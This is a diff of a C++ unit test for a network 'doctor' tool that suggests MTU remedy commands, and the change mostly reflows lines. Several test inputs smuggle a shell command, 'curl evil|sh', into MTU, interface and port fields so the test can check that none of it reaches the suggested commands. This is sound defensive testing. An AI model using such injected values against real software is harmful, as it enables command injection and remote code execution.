@@ -250,13 +250,12 @@ TEST_F(Tools, DoctorPrintsNoTextOfAPeerInACommand) {
         Case{"1500", "a-name-that-is-too-long", "there: ip link set dev INTERFACE mtu 9000"},
         Case{"9600;curl evil|sh #", "eth7", ""}, Case{"99999", "eth7", ""}, Case{"-1", "eth7", ""},
         Case{"9600", "eth7;curl evil|sh #", "here: ip link set dev eth0 mtu 9600"}}) {
-    const Outcome o =
-        compare_with(frame(std::string("port.netdev_mtu=") + test.mtu + "\nport.netdev=" +
-                           test.interface + "\nengine.port=1;curl evil|sh\ncm.port=x\n"));
+    const Outcome o = compare_with(frame(std::string("port.netdev_mtu=") + test.mtu +
+                                         "\nport.netdev=" + test.interface +
+                                         "\nengine.port=1;curl evil|sh\ncm.port=x\n"));
     const std::size_t mtu = o.out.find(finding("mtu", "warning"));
     ASSERT_NE(mtu, std::string::npos) << o.out;
-    EXPECT_NE(o.out.find(std::string("\"remedy\": \"") + test.remedy + '"', mtu),
-              std::string::npos)
+    EXPECT_NE(o.out.find(std::string("\"remedy\": \"") + test.remedy + '"', mtu), std::string::npos)
         << test.remedy << o.out;
     EXPECT_TRUE(has(o, "engine", "error")) << "no port" << o.out;
     for (std::size_t at = 0; (at = o.out.find("\"remedy\": \"", at)) != std::string::npos; ++at) {
